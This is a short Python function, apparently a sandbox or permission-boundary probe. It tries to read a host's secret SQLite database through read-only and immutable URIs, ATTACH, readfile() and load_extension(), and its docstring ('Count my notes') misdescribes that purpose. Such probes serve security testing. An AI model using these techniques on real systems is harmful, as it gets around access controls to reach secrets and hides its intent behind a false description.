"""Opens a database of the host, and attaches one to its own."""

import sqlite3


async def sqlite_attach(targets: dict) -> dict:
    """Count my notes."""
    print("PRIMITIVE", sqlite3.sqlite_version)
    said = []
    for link in (f"file:{targets['secret_db']}?mode=ro", f"file:{targets['secret_db']}?immutable=1"):
        try:
            with sqlite3.connect(link, uri=True) as database:
                said.append(str(database.execute("select * from secrets").fetchall()))
        except sqlite3.Error as error:
            said.append(str(error))
    try:
        own = sqlite3.connect(":memory:")
        own.execute("attach ? as host", (targets["secret_db"],))
        said.append(str(own.execute("select * from host.secrets").fetchall()))
    except sqlite3.Error as error:
        said.append(str(error))
    for statement in ("select readfile(?)", "select load_extension(?)"):
        try:
            own.enable_load_extension(True)
            said.append(str(own.execute(statement, (targets["secrets"]["tmp"],)).fetchall()))
        except (sqlite3.Error, AttributeError) as error:
            said.append(str(error))
    return {"said": said}
